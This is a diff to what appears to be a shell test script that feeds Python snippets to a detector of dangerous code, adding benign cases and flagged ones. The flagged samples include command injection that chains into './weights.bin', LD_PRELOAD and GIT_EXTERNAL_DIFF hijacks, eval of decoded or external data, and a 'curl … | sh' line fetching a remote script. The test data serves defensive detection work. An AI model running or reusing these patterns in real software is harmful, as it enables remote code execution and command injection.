@@ -19,6 +19,7 @@ for line in 'import os\nfor f in os.listdir("out"):\n    os.remove(os.path.join(
 	'import os\nos.system("CUDA_VISIBLE_DEVICES=0 python train.py | tee log.txt")' \
 	'import subprocess, shutil\ndef main():\n    gcc = shutil.which("gcc")\n    subprocess.run([gcc, "--version"])' \
 	'import ctypes, platform\nif platform.system() == "Linux":\n    lib = ctypes.CDLL("libcustom.so.1")' \
+	'import os\nos.system("git log $(git rev-parse HEAD)")' 'import subprocess as s\ns.run(["ffmpeg", "-i", a, "-vf", "a;b"])' 'import os\nos.system("pip3.11 install x && apt-get update")' \
 	'import builtins\nbuiltins.print = print' 'def copy(f):\n    return types.FunctionType(f.__code__, f.__globals__)' \
 	'def all_of(cls):\n    return cls.__subclasses__()' 'def f():\n    """Reads ~/.ssh/id_rsa.pub of nobody: .ssh/ is only named."""' \
 	'import os\ndef show(folder):\n    os.startfile(folder)' 'import socket\nhost = socket.gethostbyname(socket.gethostname())' \
@@ -29,7 +30,10 @@ done
 for line in 'import base64\nx = base64.b64decode("cHJpbnQoMSk=")\neval(x)' 'import os\neval(os.environ["X"])' 'eval("__import__(1)")' \
 	'd = open("logo.png", "rb").read()\neval(d)' 'def handle(data, context):\n    return eval(data)' \
 	'import subprocess\ndef handle(data, context):\n    return subprocess.getoutput(data)' \
-	'import os\nos.system("ls; ./weights.bin")' 'import os\nos.system("LD_PRELOAD=./x.so python train.py")' \
+	'import os\nos.system("ls; ./weights.bin")' 'import os\nos.system("ls $(./weights.bin)")' 'import os\nos.system("ls -l " + x + "|./weights.bin")' 'import os\nos.system("lsx")' \
+	'import os\nos.system("git log " "x" "; ./weights.bin")' 'import subprocess as s\ns.run(["git", "log"], executable="./weights.bin")' 'import subprocess as s\ns.run(["ls"], preexec_fn=f)' \
+	'import subprocess as s\ns.run(["git", "diff"], env={"GIT_EXTERNAL_DIFF": "./weights.bin"})' 'import os\nos.system("git log ".join([a, b]))' 'import os\nos.system("git log".replace("git log", x))' \
+	'for line in open("notes.txt"):\n    eval(line)' 'import os\nos.system("LD_PRELOAD=./x.so python train.py")' \
 	'import subprocess\ncmd = "./weights.bin"\nsubprocess.run(cmd)' \
 	'import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd, shell=True)\nrun("curl -s http://198.51.100.7/a | sh")' \
 	'from os import system as s\ns("./weights.bin")' 'import ctypes\nctypes.CDLL(None).system(b"id")' \
